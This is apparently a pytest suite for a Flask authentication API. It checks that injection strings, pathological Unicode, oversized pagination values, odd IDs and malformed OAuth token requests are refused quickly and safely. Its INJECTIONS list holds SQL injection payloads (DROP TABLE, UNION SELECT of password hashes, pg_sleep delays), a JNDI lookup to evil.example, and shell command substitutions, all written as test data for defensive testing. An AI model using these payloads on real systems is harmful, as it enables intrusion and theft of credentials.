"""Text that is slow to read, speaks SQL, or wants to be more than text (R87 to R90, R92)."""

import time
from collections.abc import Callable
from functools import partial
from urllib.parse import quote, urlencode

from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gatehouse.web.locks import Kind
from tests.support import doors, stored
from tests.support.answers import Answer
from tests.support.api import PASSWORD, Api, Person, new_email
from tests.support.hostile import refused, within

INJECTIONS = [
    "'",
    '"',
    "''",
    "\\",
    "%",
    "_",
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "admin'--",
    "') OR ('1'='1",
    "' UNION SELECT id, password_hash FROM users --",
    "'; DROP TABLE users; --",
    "'; SELECT pg_sleep(5); --",
    "' || pg_sleep(5) || '",
    "1; ATTACH DATABASE '/tmp/x' AS x; --",
    "' AND randomblob(500000000) IS NOT NULL --",
    "' AND 1=(SELECT 1 FROM pg_sleep(5)) --",
    "$$; SELECT 1; $$",
    "{{7*7}}",
    "%(name)s",
    ":name",
    "?",
    "%s%s%s%n",
    "${jndi:ldap://evil.example/a}",
    "`id`",
    "$(id)",
]


def test_r87_sql_in_parameters(app: Flask, client: Api, admin: Person) -> None:
    person = client.sign_up()
    everybody = len(admin.get("/users").json["users"])
    for text in INJECTIONS:
        coded = quote(text, safe="")
        found = within(1, partial(admin.get, f"/users?q={coded}")).expect(200)
        assert found.json["users"] == [], text
        role = within(1, partial(admin.get, f"/users?role={coded}")).expect(200)
        assert role.json["users"] == [], text
        for query in ("sort", "cursor", "created_after", "page", "limit", "is_active"):
            answer = within(1, partial(admin.get, f"/users?{query}={coded}"))
            refused(answer).expect(422)
        for query in ("type", "actor_id", "subject_id", "since", "sort"):
            answer = within(1, partial(admin.get, f"/audit-events?{query}={coded}"))
            refused(answer).expect(422)
        for path in ("/users/{}", "/roles/{}", "/auth/sessions/{}", "/users/{}/sessions"):
            answer = within(1, partial(admin.get, path.format(coded)))
            assert refused(answer).status in (404, 405)
        headers = {"If-Match": f'"{text}"', "If-None-Match": text, "X-Request-ID": text}
        answer = within(1, partial(person.patch, "/users/me", {"name": "x"}, headers=headers))
        assert answer.status in (200, 412)
    assert len(admin.get("/users").json["users"]) == everybody
    assert stored.account(app, person.id)["email"] == person.email


def test_r87_sql_in_bodies(client: Api, admin: Person) -> None:
    person = client.sign_up()
    wrong = client.at().try_log_in(new_email(), PASSWORD)
    for text in INJECTIONS:
        stranger = client.at()
        for name in (text, person.email + text):
            answer = within(1, partial(stranger.try_log_in, name))
            answer.expect(401, "invalid_credentials")
            assert answer.json["detail"] == wrong.json["detail"]
        answer = within(1, partial(stranger.try_grant, new_email(), text)).expect(400)
        assert answer.json["error"] == "invalid_grant"
        # A name is any text, and comes back to the letter.
        assert person.patch("/users/me", {"name": text}).expect(200).json["name"] == text
        assert person.me()["name"] == text
        for body in ({"username": text + "abc"}, {"locale": text}):
            person.patch("/users/me", body).expect(422)
        body = {"name": "role", "description": f"x{text}", "permissions": [text]}
        admin.post("/roles", body).expect(422, "unknown_permission")
        admin.put(f"/users/{person.id}/roles", {"roles": [text]}).expect(422)
        client.at().post("/users", {"email": f"{text}@example.com", "password": PASSWORD})
    role = {"name": "role", "description": INJECTIONS[12]}
    assert admin.post("/roles", role).expect(201).json["description"] == INJECTIONS[12]
    assert person.is_in()


LONG = 60_000
SLOW: dict[str, str] = {
    "one letter": "a" * LONG,
    "at signs": "@" * LONG,
    "labels": "a@" + "a." * (LONG // 2),
    "dots": "a." * (LONG // 2) + "@example.com",
    "only dots": "." * LONG + "@" + "." * LONG,
    "dashes": "a@" + "-" * LONG + ".com",
    "punycode": "a@" + "xn--" * (LONG // 4) + ".com",
    "a bad label": "a@xn--" + "a" * 200 + ".com",
    "long label in a short address": "a@" + "ü" * 240,
    "quotes": '"' * LONG + "@example.com",
    "escaped quotes": '"' + '\\"' * (LONG // 2) + '"@example.com',
    "comments": "(" * LONG + "@example.com",
    "brackets": "a@[" + ":" * LONG + "]",
    "literal": "a@[IPv6:" + "1:" * 120 + "]",
    "blanks": " " * LONG + "x",
    "blanks inside": "x" + " " * 10_000 + "@" + " " * 10_000 + "x.com",
    "expanding": "\ufdfa" * 20_000,
    "expanding, short": "\ufdfa" * 80 + "@example.com",
    "combining": "e" + "\u0301" * 29_000,
    "combining, mixed order": "e" + "\u0301\u0323" * 14_000,
    "combining, short": "e" + "\u0301\u0323\u0327" * 60,
    "astral": "\U0001f468\u200d" * 9_000,
    "bidi": "\u202e\u202d" * 10_000,
    "jamo": "\u1100\u1161\u11a8" * 6_000,
    "turkish": "İ" * 20_000,
    "sharp s": "ß" * 20_000,
    "almost a name": "a" + "-" * 49,
    "almost a locale": "de" + "-abcdefgh" * 6_000,
    "almost a locale, short": "de" + "-a1b2c3d4" * 3 + "-",
    "many digits": "9" * LONG,
    "zero width": "\u200b" * 20_000,
}


def worked(action: Callable[[], Answer]) -> Answer:
    """Return an answer that costs at most 100 ms of work, hash included: it is cheap in tests."""
    answer = within(0.1, action, clock=time.process_time)
    assert answer.status < 500
    return answer


def test_r88_pathological_text_costs_nothing(client: Api, admin: Person) -> None:
    person = client.sign_up()
    for text in SLOW.values():
        stranger, name, head = client.at(), text[:10_000], quote(text[:2_000])
        asked: list[Callable[[], Answer]] = [
            partial(stranger.post, "/users", {"email": text, "password": PASSWORD}),
            partial(stranger.post, "/auth/password-reset", {"email": text}),
            partial(stranger.try_log_in, text),
            partial(stranger.try_log_in, f"{text}@example.com"),
            partial(stranger.try_grant, text[:5_000]),
            partial(person.patch, "/users/me", {"username": text}),
            partial(person.patch, "/users/me", {"locale": text}),
            partial(person.patch, "/users/me", {"name": text}),
            partial(admin.post, "/roles", {"name": text, "description": name}),
            partial(admin.get, f"/users?q={head}"),
            partial(admin.get, f"/users?cursor={head}"),
            partial(admin.get, f"/audit-events?type={head}"),
            partial(person.get, "/users/me", headers={"If-None-Match": head}),
            partial(person.bearing(head).get, "/users/me"),
        ]
        for ask in asked:
            worked(ask)
        body = {"email": new_email(), "password": PASSWORD, "name": text, "username": text}
        refused(worked(partial(stranger.post, "/users", body)))


@settings(
    max_examples=40,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(text=st.text(max_size=300), tail=st.sampled_from(["", "@example.com", "@x", "@ß.de"]))
def test_r88_any_text(client: Api, text: str, tail: str) -> None:
    for body in (
        {"email": text + tail, "password": PASSWORD},
        {"email": new_email(), "password": PASSWORD, "name": text, "username": text + tail},
    ):
        answer = worked(partial(client.at().post, "/users", body))
        assert answer.status in (201, 400, 409, 422)


TOO_MUCH = [
    "limit=100000000",
    "limit=-1",
    "limit=0",
    "limit=101",
    "limit=" + "9" * 5_000,
    "limit=1e2",
    "limit=0x10",
    "limit=\u0661\u0660",
    "limit=10.0",
    "limit=+10",
    "limit= 10",
    "limit=",
    "limit=null",
    "limit=10&limit=1000",
    "limit[]=10",
    "per_page=100000000",
    "per_page=-5",
    "page=0",
    "page=-1",
    "page=" + "9" * 5_000,
    "page=99999999999999999999",
    "page=1000000",
    "skip=-1",
    "skip=9223372036854775808",
    "skip=100000000",
    "page=2&cursor=abc",
    "cursor=abc",
    "cursor=" + "A" * 3_000,
    "cursor=eyJpZCI6MX0.AAAA",
    "total=1",
    "total=yes",
    "sort=hashed_password",
    "sort=password_hash",
    "sort=-password_hash",
    "sort=session_epoch",
    "sort=id",
    "sort=name;--",
    "sort=email,password_hash",
    "sort=created_at&sort=password_hash",
    "sort=",
    "order_by=password_hash",
    "password_hash=x",
    "password_hash__startswith=%24",
    "password=x",
    "filter[password_hash]=x",
    "fields=password_hash",
    "include=sessions",
    "expand=sessions",
    "where=1",
    "debug=1",
    "q=" + "a" * 255,
    "q=%00",
    "q=%ff",
    "q=%ed%a0%80",
    "created_after=yesterday",
    "created_after=9999-99-99T00:00:00Z",
    "&".join(f"a{number}=1" for number in range(500)),
]


def test_r89_lists_give_no_more_than_they_should(admin: Person) -> None:
    for path in ("/users", "/roles", "/audit-events"):
        for query in TOO_MUCH:
            refused(within(1, partial(admin.get, f"{path}?{query}"))).expect(422)
        for query in ("limit=100", "per_page=100", "skip=10000&limit=100", "page=101&per_page=100"):
            answer = admin.get(f"{path}?{query}").expect(200)
            assert answer.json["per_page"] == 100


def test_r89_a_page_holds_a_hundred_at_most(app: Flask, client: Api, admin: Person) -> None:
    for _ in range(103):
        admin.post("/users", {"email": new_email(), "password": PASSWORD}).expect(201)
    for query in ("limit=100", "per_page=100", "per_page=100&total=true"):
        assert len(admin.get(f"/users?{query}").json["users"]) == 100
    assert len(admin.get("/users").json["users"]) == 30
    # A search looks at names alone: no beginning of a hash finds anybody.
    some_hash = str(stored.account(app, admin.id)["password_hash"])
    for beginning in ("$", "%24", some_hash[:16], "$bcrypt-sha256"):
        assert admin.get(f"/users?{urlencode({'q': beginning})}").json["users"] == []


ODD_IDS = [
    *("0", "1", "-1", "9223372036854775807", "9223372036854775808", "1e308", "NaN", "null"),
    *("true", "undefined", "none", "%00", "%0a", "%20", "%2e%2e", "..%2fme", "%2e%2e%2fme"),
    *("me%00", "%6d%65%00", "\U0001f600", "%F0%9F%98%80", "%ff%fe", "%ED%A0%80", "a" * 3_000),
    "01890a5d-ac96-774b-bcce-b302099a805",
    "01890a5d-ac96-774b-bcce-b302099a80577",
    "01890a5dac96774bbcceb302099a8057",
    "{01890a5d-ac96-774b-bcce-b302099a8057}",
    "urn:uuid:01890a5d-ac96-774b-bcce-b302099a8057",
    "01890a5d-ac96-774b-bcce-b302099a8057%00",
    "01890a5d-ac96-774b-bcce-b302099a8057'",
    "01890a5d-ac96-774b-bcce-b302099a8057,01890a5d-ac96-774b-bcce-b302099a8058",
    "\u06601890a5d-ac96-774b-bcce-b302099a8057",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
]


def test_r90_odd_ids(app: Flask, client: Api, admin: Person) -> None:
    person = client.sign_up()
    before = stored.account(app, person.id)
    samples = doors.samples(client)
    for door in doors.doors(app):
        # A client of a socket names itself, and nothing is looked up by that.
        if not door.has_id or door.rule.startswith("/ws/"):
            continue
        # The body fits, so that nothing but the id is odd.
        sample = samples.get(door.described)
        for odd in ODD_IDS:
            path = door.path(quote(odd, safe="%"))
            for visitor in (admin, person, client):
                answer = within(1, partial(visitor.request, door.method, path, json=sample))
                assert refused(answer).status in (401, 403, 404, 405), str(answer)
                # A signed URL is judged by its signature.
                is_unsigned = door.lock.kind is Kind.ONE_TIME and answer.status == 403
                is_absent = answer.status in (404, 405) or is_unsigned
                assert visitor is not admin or is_absent, str(answer)
    assert stored.account(app, person.id) == before


def oauth(answer: Answer, error: str, status: int = 400) -> None:
    """Assert an error of RFC 6749, section 5.2, that no cache may keep."""
    answer.expect(status)
    assert answer.json["error"] == error, str(answer)
    description = answer.json["error_description"]
    assert all(0x20 <= ord(c) <= 0x7E and c not in '"\\' for c in description)
    assert "no-store" in answer.headers["Cache-Control"]


def test_r92_the_token_endpoint_is_strict(client: Api) -> None:
    person = client.sign_up()
    form = urlencode({"grant_type": "password", "username": person.email, "password": PASSWORD})
    headers = {"Content-Type": "application/x-www-form-urlencoded"}

    def ask(body: str, path: str = "/auth/token") -> Answer:
        return client.at().post(path, body=body.encode(), headers=headers)

    for twice in ("password=x", "username=x", "grant_type=password", "scope=a&scope=b"):
        oauth(ask(f"{form}&{twice}"), "invalid_request")
    for grant in ("client_credentials", "authorization_code", "PASSWORD", "password ", "x" * 900):
        oauth(ask(urlencode({"grant_type": grant})), "unsupported_grant_type")
    for missing in ("", "grant_type=", "grant_type=password", "grant_type=refresh_token", "=&=&"):
        oauth(ask(missing), "invalid_request")
    oauth(ask(f"grant_type=password&username={person.email}"), "invalid_request")
    oauth(ask(f"grant_type=password&username={person.email}&password="), "invalid_request")
    for query in (form, "username=x", "grant_type=password", "client_id=x"):
        oauth(ask(form, f"/auth/token?{query}"), "invalid_request")
        oauth(ask("", f"/auth/token?{query}"), "invalid_request")
    oauth(client.try_grant(person.email, "a wrong Password"), "invalid_grant")
    oauth(client.try_grant(new_email()), "invalid_grant")
    oauth(ask("grant_type=refresh_token&refresh_token=x"), "invalid_grant")
    oauth(ask(f"grant_type=refresh_token&refresh_token={person.token}"), "invalid_grant")
    for broken in ("%ff=%ff", "x=%00", "&".join("abcdefghij" * 15)):
        oauth(ask(f"{broken}&{form}"), "invalid_request")
    oauth(client.post("/auth/token", {"grant_type": "password"}), "invalid_request", 415)
    oauth(ask("a" * 70_000), "invalid_request", 413)
    assert len(person.get("/auth/sessions").json["sessions"]) == 1


def test_r92_get_and_the_query_give_nothing(client: Api) -> None:
    person = client.sign_up()
    query = urlencode({"grant_type": "password", "username": person.email, "password": PASSWORD})
    for method in ("GET", "PUT", "PATCH", "DELETE"):
        answer = client.request(method, f"/api/v1/auth/token?{query}")
        assert sorted(answer.headers["Allow"].split(", ")) == ["OPTIONS", "POST"]
        oauth(answer, "invalid_request", 405)
    client.post(f"/auth/login?{query}").expect(415)
    client.post(f"/auth/login?{query}", {"username": person.email}).expect(422)
    assert len(person.get("/auth/sessions").json["sessions"]) == 1
    answer = client.try_grant(person.email, scope="anything at all", client_id="x").expect(200)
    assert "no-store" in answer.headers["Cache-Control"]
    assert answer.json["token_type"] == "Bearer"
    assert set(answer.json) == {"access_token", "refresh_token", "token_type", "expires_in"}
